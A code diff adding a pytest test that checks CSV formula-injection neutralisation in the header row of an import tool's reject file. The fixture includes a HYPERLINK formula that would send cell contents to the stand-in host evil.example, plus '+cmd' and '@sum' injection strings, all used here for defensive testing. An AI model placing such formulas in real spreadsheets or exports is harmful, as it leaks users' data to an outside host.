@@ -256,6 +256,19 @@ def test_reject_file_holds_full_rows_private_and_neutralised(hrms_db, database_u
     assert "7,777.77" not in stored and "9999.99" not in stored
 
 
+def test_reject_file_header_cells_are_neutralised_like_data_cells(hrms_db, base):
+    """A source column named like a formula is not a live formula in the reject file's header row."""
+    header = BASE["history.csv"][0] + ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd", "@sum(a1)"]
+    write(base, "history.csv", [header, ["kofi.owusu@nhia.gov.gh", "hire", "2019-13-10", "ENG", "1", "", "P1", "3500.00",
+                                         "", "a", "b", "c"]])
+    with pytest.raises(ImportFileError):
+        run_stage(hrms_db, "history", base, run_id="run-reject-header")
+    with (settings.rejects_dir() / "run-reject-header" / "history.csv").open(newline="", encoding="utf-8") as handle:
+        read_back = list(csv.reader(handle))
+    assert read_back[0][-3:] == ['\'=hyperlink("http://evil.example/?x="&a1,"open")', "'+cmd", "'@sum(a1)"]
+    assert not any(spreadsheet_evaluates(c) for line in read_back for c in line)
+
+
 def test_neutralise_follows_owasp():
     for cell in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
         assert neutralise(cell) == "'" + cell and not spreadsheet_evaluates(neutralise(cell))
